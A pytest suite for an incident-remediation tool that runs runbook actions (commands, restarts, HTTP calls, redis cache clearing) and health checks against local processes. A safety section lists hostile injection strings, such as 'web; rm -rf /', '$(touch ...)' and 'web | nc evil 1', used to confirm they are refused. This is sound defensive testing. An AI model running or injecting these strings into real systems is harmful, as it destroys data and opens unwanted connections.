"""Actions and checks against real processes, a real HTTP server and a private redis-server."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import psutil
import pytest
import redis
from pydantic import TypeAdapter

from erdu_tasks.fixer.actions import run_step
from erdu_tasks.fixer.checks import CheckSpec, run_check
from erdu_tasks.model import Incident, Severity, Status
from erdu_tasks.fixer.runbooks import RunbookSet, Step, placeholder_values

PY = sys.executable
SPEC = TypeAdapter(CheckSpec)

# ------------------------------------------------------------------ every process this test process starts

_SPAWNED: list[list[str]] = []


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if event == "subprocess.Popen":
        _SPAWNED.append([str(a) for a in (args[1] or [])])


sys.addaudithook(_audit)


@pytest.fixture
def spawned() -> list[list[str]]:
    """The argv of every subprocess started during the test."""
    _SPAWNED.clear()
    return _SPAWNED


def step(action: str, timeout: float = 10, **params: Any) -> Step:
    return Step(action=action, params=params, timeout=timeout)


def check(**spec: Any) -> Any:
    return SPEC.validate_python(spec)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def gone(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True


def wait_for(predicate: Any, timeout: float = 10.0) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return predicate()


# ------------------------------------------------------------------ a tiny HTTP server


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:
        pass

    def _serve(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.requests.append(  # type: ignore[attr-defined]
            {"method": self.command, "path": self.path, "headers": dict(self.headers), "body": body})
        if self.path.startswith("/slow"):
            time.sleep(1.5)
        status = 500 if self.path.startswith("/fail") else 204 if self.path.startswith("/empty") else 200
        payload = b"" if status == 204 else b'{"status": "healthy"}'
        try:
            self.send_response(status)
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)
        except (BrokenPipeError, ConnectionResetError):
            pass   # the /slow client timed out and left: what a real server sees too

    do_GET = do_POST = do_PUT = _serve


@pytest.fixture
def http_server() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.requests = []  # type: ignore[attr-defined]
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", server.requests  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()


# ------------------------------------------------------------------ a private redis-server


@pytest.fixture
def redis_url(tmp_path: Path) -> Iterator[str]:
    port = free_port()
    proc = subprocess.Popen(
        ["redis-server", "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no",
         "--dir", str(tmp_path)],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    url = f"redis://127.0.0.1:{port}/0"
    client = redis.Redis.from_url(url)

    def up() -> bool:
        try:
            return bool(client.ping())
        except redis.ConnectionError:
            return False

    try:
        assert wait_for(up), "private redis-server did not start"
        yield url
    finally:
        client.close()
        proc.terminate()
        proc.wait(timeout=10)


# ================================================================== run_command


def test_run_command_runs_a_real_argv_with_rendered_service(tmp_path: Path) -> None:
    out = tmp_path / "out.txt"
    code = "import sys; open(sys.argv[1], 'w').write(sys.argv[2]); print('wrote', sys.argv[2])"
    result = run_step(step("run_command", argv=[PY, "-c", code, str(out), "svc={service}"]), {"service": "web-1"})
    assert result.ok, result
    assert out.read_text() == "svc=web-1"
    assert result.output["exit_code"] == 0
    assert result.output["stdout"].strip() == "wrote svc=web-1"
    assert result.output["what"].startswith(PY)
    assert result.detail.startswith("exit 0")


def test_a_failing_command_is_ok_false_with_its_stderr() -> None:
    code = "import sys; print('boom: disk full', file=sys.stderr); sys.exit(3)"
    result = run_step(step("run_command", argv=[PY, "-c", code]), {})
    assert not result.ok
    assert result.detail == "exit 3: boom: disk full"
    assert result.output["exit_code"] == 3


def test_accepted_exit_codes_can_be_widened() -> None:
    result = run_step(step("run_command", argv=[PY, "-c", "raise SystemExit(3)"], expect_exit=[0, 3]), {})
    assert result.ok


def test_a_sleeping_command_is_killed_with_its_children_at_the_timeout(tmp_path: Path) -> None:
    pids = tmp_path / "pids"
    code = textwrap.dedent(f"""
        import os, subprocess, sys, time
        child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
        open({str(pids)!r}, "w").write("%d %d" % (os.getpid(), child.pid))
        time.sleep(60)
    """)
    started = time.monotonic()
    result = run_step(step("run_command", timeout=1.0, argv=[PY, "-c", code]), {})
    elapsed = time.monotonic() - started
    assert not result.ok
    assert result.detail == "timed out after 1s; process group killed"
    assert result.output["timed_out"] is True
    assert elapsed < 5
    parent, child = map(int, pids.read_text().split())
    assert wait_for(lambda: gone(parent) and gone(child), 5)


def test_output_is_captured_but_capped() -> None:
    code = "import sys; sys.stdout.write('x' * 1_000_000 + 'END')"
    result = run_step(step("run_command", argv=[PY, "-c", code]), {})
    assert result.ok
    stdout = result.output["stdout"]
    assert len(stdout) < 9000
    assert "bytes cut" in stdout and stdout.endswith("END")


def test_commands_get_a_small_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ERDU_TEST_SECRET", "s3cret")
    code = "import os; print(os.environ.get('ERDU_TEST_SECRET'), os.environ.get('MODE'))"
    plain = run_step(step("run_command", argv=[PY, "-c", code], env={"MODE": "{service}"}), {"service": "web"})
    assert plain.output["stdout"].strip() == "None web"
    passed = run_step(step("run_command", argv=[PY, "-c", code], env_passthrough=["ERDU_TEST_SECRET"]), {})
    assert passed.output["stdout"].strip() == "s3cret None"


def test_a_missing_program_is_ok_false() -> None:
    result = run_step(step("run_command", argv=["erdu-no-such-program-xyz"]), {})
    assert not result.ok and result.detail == "command not found: erdu-no-such-program-xyz"


# ================================================================== restart and scale


@pytest.fixture
def fake_bin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """systemctl, supervisorctl and docker stand-ins that log their argv, first on PATH."""
    bin_dir, log = tmp_path / "bin", tmp_path / "calls.jsonl"
    bin_dir.mkdir()
    for name in ("systemctl", "supervisorctl", "docker"):
        script = bin_dir / name
        script.write_text(f"#!{PY}\nimport json, os, sys\n"
                          f"open({str(log)!r}, 'a').write(json.dumps([os.path.basename(sys.argv[0])] + sys.argv[1:]) + '\\n')\n")
        script.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    return log


def calls(log: Path) -> list[list[str]]:
    return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []


@pytest.mark.parametrize(
    ("params", "argv"),
    [
        ({"systemd": "{service}.service"}, ["systemctl", "--no-ask-password", "restart", "web.service"]),
        ({"supervisor": "{service}"}, ["supervisorctl", "restart", "web"]),
        ({"supervisor": "{service}", "supervisor_conf": "/etc/sv.conf"},
         ["supervisorctl", "-c", "/etc/sv.conf", "restart", "web"]),
        ({"docker": "{service}-{host}"}, ["docker", "restart", "web-h1"]),
    ],
)
def test_restart_runs_the_service_managers_command(fake_bin: Path, params: dict, argv: list[str]) -> None:
    result = run_step(step("restart", **params), {"service": "web", "host": "h1"})
    assert result.ok, result
    assert calls(fake_bin) == [argv]


def test_scale_runs_its_template(fake_bin: Path) -> None:
    s = step("scale", argv=["docker", "compose", "up", "-d", "--scale", "{service}=3"])
    assert run_step(s, {"service": "worker"}).ok
    assert calls(fake_bin) == [["docker", "compose", "up", "-d", "--scale", "worker=3"]]


def test_an_action_has_no_undo_of_its_own_a_runbook_lists_rollback_steps() -> None:
    # Undoing is the runbook's `rollback` steps, run forward; a leftover undo parameter is refused.
    result = run_step(step("scale", argv=["docker", "compose", "up"], rollback_argv=["docker", "compose", "down"]),
                      {})
    assert not result.ok and "rollback_argv" in result.detail


RESTARTER = textwrap.dedent("""
    import os, signal, subprocess, sys, time
    pidfile, port = sys.argv[1], sys.argv[2]
    try:
        os.kill(int(open(pidfile).read()), signal.SIGTERM)
        time.sleep(0.2)
    except (OSError, ValueError):
        pass
    server = subprocess.Popen([sys.executable, "-m", "http.server", port, "--bind", "127.0.0.1"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    open(pidfile, "w").write(str(server.pid))
""")


def test_restart_by_argv_brings_a_dead_service_back_and_validation_proves_it(tmp_path: Path) -> None:
    port, pidfile, restarter = free_port(), tmp_path / "web.pid", tmp_path / "restart.py"
    restarter.write_text(RESTARTER)
    first = subprocess.Popen([PY, "-m", "http.server", str(port), "--bind", "127.0.0.1"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    pidfile.write_text(str(first.pid))
    healthy = check(check="http", url="http://127.0.0.1:{service}/", timeout=2, attempts=50, interval=0.1)
    alive = check(check="process", pidfile=str(pidfile))
    new_pid = None
    try:
        assert run_check(healthy, {"service": str(port)}).ok
        first.kill()
        first.wait()
        once = check(check="http", url=f"http://127.0.0.1:{port}/", timeout=2)
        assert not run_check(once, {}).ok
        assert not run_check(alive, {}).ok

        result = run_step(step("restart", argv=[PY, str(restarter), str(pidfile), str(port)]), {})
        assert result.ok, result
        new_pid = int(pidfile.read_text())
        assert new_pid != first.pid

        validated = run_check(healthy, {"service": str(port)})
        assert validated.ok, validated
        assert validated.output["status"] == 200
        assert run_check(alive, {}).ok
    finally:
        if new_pid is not None:
            try:
                os.kill(new_pid, 15)
            except ProcessLookupError:
                pass
        if first.poll() is None:
            first.kill()


# ================================================================== http_call


def test_http_call_sends_the_described_request(http_server: tuple[str, list]) -> None:
    base, requests = http_server
    s = step("http_call", method="POST", url=base + "/admin/{service}/reset-pool",
             headers={"X-Erdu": "yes"}, json={"service": "{service}", "drain": True}, expect_status=200)
    result = run_step(s, {"service": "web"})
    assert result.ok, result
    assert result.output["status"] == 200 and result.output["body"] == '{"status": "healthy"}'
    [req] = requests
    assert (req["method"], req["path"]) == ("POST", "/admin/web/reset-pool")
    assert req["headers"]["X-Erdu"] == "yes"
    assert json.loads(req["body"]) == {"service": "web", "drain": True}


def test_http_call_fails_on_an_unexpected_status_or_a_slow_peer(http_server: tuple[str, list]) -> None:
    base, _ = http_server
    bad = run_step(step("http_call", url=base + "/fail"), {})
    assert not bad.ok and bad.detail.endswith("returned 500, expected 2xx")
    wrong = run_step(step("http_call", url=base + "/empty", expect_status=[200]), {})
    assert not wrong.ok and "returned 204, expected [200]" in wrong.detail
    started = time.monotonic()
    slow = run_step(step("http_call", timeout=0.3, url=base + "/slow"), {})
    assert not slow.ok and slow.detail.startswith("timed out after 0.3s")
    assert time.monotonic() - started < 1.4


def test_http_call_to_a_closed_port_is_ok_false() -> None:
    result = run_step(step("http_call", timeout=2, url=f"http://127.0.0.1:{free_port()}/"), {})
    assert not result.ok and "ConnectError" in result.detail


# ================================================================== clear_cache


def test_clear_cache_deletes_matching_keys_with_scan_and_unlink(redis_url: str) -> None:
    client = redis.Redis.from_url(redis_url)
    client.mset({f"cache:web:{i}": i for i in range(2500)})
    client.mset({f"cache:api:{i}": i for i in range(100)})
    client.set("session:web", "keep")
    client.config_resetstat()

    result = run_step(step("clear_cache", pattern="cache:{service}:*", batch=300), {"service": "web"},
                      redis_url_for_cache=redis_url)

    assert result.ok, result
    assert result.output["deleted"] == 2500
    assert result.detail == "deleted 2500 keys matching 'cache:web:*'"
    assert client.dbsize() == 101
    assert client.exists("session:web") and client.exists("cache:api:7")
    stats = client.info("commandstats")
    assert "cmdstat_keys" not in stats
    assert stats["cmdstat_scan"]["calls"] >= 1
    assert stats["cmdstat_unlink"]["calls"] >= 2500 // 300
    client.close()


def test_clear_cache_can_use_del_and_a_url_in_the_runbook(redis_url: str) -> None:
    client = redis.Redis.from_url(redis_url)
    client.mset({f"tmp:{i}": i for i in range(10)})
    client.config_resetstat()
    result = run_step(step("clear_cache", pattern="tmp:*", unlink=False, redis_url=redis_url), {})
    assert result.ok and result.output["deleted"] == 10
    assert "cmdstat_del" in client.info("commandstats")
    client.close()


def test_clear_cache_stops_at_its_cap(redis_url: str) -> None:
    client = redis.Redis.from_url(redis_url)
    client.mset({f"cache:x:{i}": i for i in range(50)})
    result = run_step(step("clear_cache", pattern="cache:x:*", batch=10, max_keys=20), {},
                      redis_url_for_cache=redis_url)
    assert not result.ok and "stopped at max_keys=20" in result.detail
    assert result.output["deleted"] == 20 and client.dbsize() == 30
    client.close()


def test_clear_cache_without_a_reachable_redis_is_ok_false_not_an_exception() -> None:
    assert not run_step(step("clear_cache", pattern="cache:*"), {}).ok
    result = run_step(step("clear_cache", timeout=2, pattern="cache:*"), {},
                      redis_url_for_cache=f"redis://:pw@127.0.0.1:{free_port()}/0")
    assert not result.ok and result.detail.startswith("redis error")
    assert "pw" not in result.output["redis"]


# ================================================================== noop, dry run, failures


def test_noop_records_each_run_and_can_be_asked_to_fail(tmp_path: Path) -> None:
    record = tmp_path / "runs.jsonl"
    ok = run_step(step("noop", record_to=str(record)), {}, idempotency_key="INC-1:1:action:0")
    failed = run_step(step("noop", fail=True), {})
    assert ok.ok and ok.output["ran"] is True
    assert not failed.ok and failed.detail == "noop failed as asked"
    assert [json.loads(line)["key"] for line in record.read_text().splitlines()] == ["INC-1:1:action:0"]


def test_a_noop_that_outlasts_its_timeout_fails() -> None:
    result = run_step(step("noop", timeout=0.2, sleep=5), {})
    assert not result.ok and result.detail == "timed out after 0.2s"


def test_an_action_that_raises_becomes_a_failed_step(tmp_path: Path) -> None:
    result = run_step(step("noop", record_to=str(tmp_path / "no" / "such" / "dir" / "f")), {})
    assert not result.ok and result.detail.startswith("noop raised FileNotFoundError")


def test_dry_run_says_what_would_run_and_runs_nothing(tmp_path: Path, spawned: list, redis_url: str) -> None:
    spawned.clear()
    out = tmp_path / "never"
    result = run_step(step("run_command", argv=[PY, "-c", "open('x','w')", str(out), "{service}"]),
                      {"service": "web"}, dry_run=True)
    assert result.ok and result.output["dry_run"] is True
    assert result.detail.startswith(f"dry run: would run run_command: {PY} -c")
    assert result.detail.endswith(" web")
    client = redis.Redis.from_url(redis_url)
    client.set("cache:web:1", 1)
    assert run_step(step("clear_cache", pattern="cache:*"), {}, dry_run=True, redis_url_for_cache=redis_url).ok
    assert client.exists("cache:web:1")
    client.close()
    assert spawned == [] and not out.exists()


# ================================================================== safety: event text never reaches a command

HOSTILE = ["web; rm -rf /", "$(touch /tmp/erdu-pwned)", "`touch /tmp/erdu-pwned`", "web && reboot",
           "web | nc evil 1", "web\nrm -rf /", "../../etc", "--force", "web$IFS"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_service_or_host_values_never_reach_a_process_or_a_url(
        hostile: str, tmp_path: Path, spawned: list, http_server: tuple[str, list], fake_bin: Path) -> None:
    base, requests = http_server
    marker = tmp_path / "ran"
    steps = [
        step("run_command", argv=[PY, "-c", "open(__import__('sys').argv[1], 'w')", str(marker), "{service}"]),
        step("restart", systemd="{service}.service"),
        step("restart", docker="{host}"),
        step("scale", argv=["docker", "compose", "up", "--scale", "{service}=3"]),
        step("http_call", url=base + "/admin/{service}"),
        step("http_call", url=base + "/admin", json={"host": "{host}"}),
    ]
    spawned.clear()
    for fields in ({"service": hostile, "host": "h1"}, {"service": "web", "host": hostile}):
        for s in steps:
            uses = {"service", "host"} & {k for k, v in fields.items() if v == hostile}
            if not any("{" + u + "}" in json.dumps(s.params) for u in uses):
                continue
            result = run_step(s, fields)
            assert not result.ok
            assert result.detail.startswith("refused: refused ")
    assert spawned == []
    assert requests == []
    assert calls(fake_bin) == []
    assert not marker.exists()
    assert not Path("/tmp/erdu-pwned").exists()


def test_event_text_in_messages_and_labels_is_not_available_to_runbooks(tmp_path: Path, spawned: list) -> None:
    incident = Incident(id="INC-1", fingerprint="fp", title="`reboot` $(id)", description="; rm -rf /",
                        severity=Severity.P2, status=Status.FIXING, source="logs", service="web", host="h1",
                        labels={"service": "$(id)", "x": "`id`"}, error_details={"message": "; rm -rf /"})
    fields = placeholder_values(incident)
    assert fields == {"service": "web", "host": "h1"}
    out = tmp_path / "argv.json"
    code = "import json, sys; json.dump(sys.argv[2:], open(sys.argv[1], 'w'))"
    spawned.clear()
    result = run_step(step("run_command", argv=[PY, "-c", code, str(out), "{service}", "{host}"]), fields)
    assert result.ok
    assert json.loads(out.read_text()) == ["web", "h1"]
    assert spawned == [[PY, "-c", code, str(out), "web", "h1"]]


def test_a_shell_is_never_involved_even_for_metacharacters_in_the_runbook_itself(tmp_path: Path) -> None:
    out = tmp_path / "argv.json"
    code = "import json, sys; json.dump(sys.argv[2:], open(sys.argv[1], 'w'))"
    literal = ["$(id)", "`id`", "; rm -rf /", "a && b", "*"]
    assert run_step(step("run_command", argv=[PY, "-c", code, str(out), *literal]), {}).ok
    assert json.loads(out.read_text()) == literal


# ================================================================== checks


def test_http_check_judges_status_latency_and_body(http_server: tuple[str, list]) -> None:
    base, _ = http_server
    assert run_check(check(check="http", url=base + "/health", body_contains="healthy"), {}).ok
    assert not run_check(check(check="http", url=base + "/health", body_contains="ready"), {}).ok
    failing = run_check(check(check="http", url=base + "/fail", attempts=2, interval=0), {})
    assert not failing.ok and failing.output["attempts"] == 2
    slow = run_check(check(check="http", url=base + "/slow", max_latency=0.5, timeout=5), {})
    assert not slow.ok and "more than 0.5s" in slow.detail


def test_process_check_by_pidfile_name_and_command_line(tmp_path: Path) -> None:
    marker = f"erdu-check-{os.getpid()}"
    proc = subprocess.Popen([PY, "-c", "import time; time.sleep(30)", marker])
    pidfile = tmp_path / "p.pid"
    pidfile.write_text(str(proc.pid))
    try:
        assert run_check(check(check="process", pidfile=str(pidfile)), {}).ok
        found = run_check(check(check="process", cmdline_contains=marker), {})
        assert found.ok and found.output["pids"] == [proc.pid]
        assert run_check(check(check="process", name=Path(PY).name), {}).ok
    finally:
        proc.kill()
        proc.wait()
    assert not run_check(check(check="process", pidfile=str(pidfile)), {}).ok
    assert not run_check(check(check="process", cmdline_contains=marker), {}).ok
    missing = run_check(check(check="process", pidfile=str(tmp_path / "none.pid")), {})
    assert not missing.ok and "cannot read pid file" in missing.detail


def test_command_check_passes_on_exit_zero() -> None:
    assert run_check(check(check="command", argv=[PY, "-c", "pass"]), {}).ok
    failed = run_check(check(check="command", argv=[PY, "-c", "raise SystemExit(1)"]), {})
    assert not failed.ok and failed.detail == "exit 1"
    slow = run_check(check(check="command", timeout=0.5, argv=[PY, "-c", "import time; time.sleep(30)"]), {})
    assert not slow.ok and slow.output["timed_out"]


def _append_later(path: Path, text: str, after: float) -> threading.Thread:
    def write() -> None:
        time.sleep(after)
        with path.open("a") as handle:
            handle.write(text)
    thread = threading.Thread(target=write, daemon=True)
    thread.start()
    return thread


def test_log_absent_passes_when_the_pattern_stays_away_for_the_window(tmp_path: Path) -> None:
    log = tmp_path / "app.log"
    log.write_text("ERROR stale cache entry 1234 (before the fix)\n")
    writer = _append_later(log, "INFO all good\n", 0.2)
    started = time.monotonic()
    result = run_check(check(check="log_absent", path=str(log), pattern=r"stale cache entry \d{2,}", window=0.8), {})
    writer.join()
    assert result.ok, result
    assert 0.8 <= time.monotonic() - started < 2


def test_log_absent_fails_as_soon_as_the_pattern_comes_back(tmp_path: Path) -> None:
    log = tmp_path / "{service}.log"
    real = tmp_path / "web.log"
    real.write_text("")
    _append_later(real, "INFO fine\nERROR stale cache entry 991 for user\n", 0.3)
    started = time.monotonic()
    result = run_check(check(check="log_absent", path=str(log), pattern=r"stale cache entry \d{2,}", window=10),
                       {"service": "web"})
    assert not result.ok
    assert time.monotonic() - started < 3
    assert result.output["line"] == "ERROR stale cache entry 991 for user"


def test_log_absent_follows_a_rotated_file(tmp_path: Path) -> None:
    log = tmp_path / "app.log"
    log.write_text("old line\n" * 100)

    def rotate() -> None:
        time.sleep(0.3)
        log.rename(tmp_path / "app.log.1")
        log.write_text("Traceback: OutOfMemoryError\n")

    threading.Thread(target=rotate, daemon=True).start()
    result = run_check(check(check="log_absent", path=str(log), pattern="OutOfMemoryError", window=5), {})
    assert not result.ok and "OutOfMemoryError" in result.detail


def test_noop_check_and_delay(tmp_path: Path) -> None:
    assert run_check(check(check="noop"), {}).ok
    assert not run_check(check(check="noop", fail=True), {}).ok
    started = time.monotonic()
    assert run_check(check(check="noop", delay=0.3), {}).ok
    assert time.monotonic() - started >= 0.3


def test_a_check_with_a_hostile_value_is_refused_without_any_request(http_server: tuple[str, list],
                                                                      spawned: list) -> None:
    base, requests = http_server
    spawned.clear()
    for spec in (check(check="http", url=base + "/{service}"), check(check="command", argv=["echo", "{service}"])):
        result = run_check(spec, {"service": "$(reboot)"})
        assert not result.ok and result.detail.startswith("refused:")
    assert requests == [] and spawned == []


# ================================================================== a runbook file end to end (no pipeline)


def test_a_runbook_file_drives_actions_and_validation(tmp_path: Path, http_server: tuple[str, list],
                                                      redis_url: str) -> None:
    base, requests = http_server
    rb_dir = tmp_path / "runbooks"
    rb_dir.mkdir()
    (rb_dir / "web.yaml").write_text(textwrap.dedent(f"""
        runbooks:
          - name: flush-and-reset
            match: {{services: [web], title_pattern: "(?i)stale"}}
            actions:
              - action: clear_cache
                params: {{pattern: "cache:{{service}}:*"}}
              - action: http_call
                params: {{method: POST, url: "{base}/admin/{{service}}/reset"}}
            validation: {{check: http, url: "{base}/health", expect_status: 200}}
            rollback:
              - action: noop
    """))
    client = redis.Redis.from_url(redis_url)
    client.mset({"cache:web:1": 1, "cache:web:2": 2, "cache:db:1": 3})
    from erdu_tasks.fixer.runbooks import MatchInput

    [runbook] = RunbookSet.load(rb_dir).match(MatchInput("fp", "web", (), "P2", "Stale data served"))
    fields = {"service": "web", "host": None}
    results = [run_step(s, fields, redis_url_for_cache=redis_url) for s in runbook.actions]
    assert [r.ok for r in results] == [True, True]
    assert results[0].output["deleted"] == 2 and list(client.scan_iter()) == [b"cache:db:1"]
    assert run_check(runbook.validation, fields).ok
    assert [r["path"] for r in requests] == ["/admin/web/reset", "/health"]
    client.close()

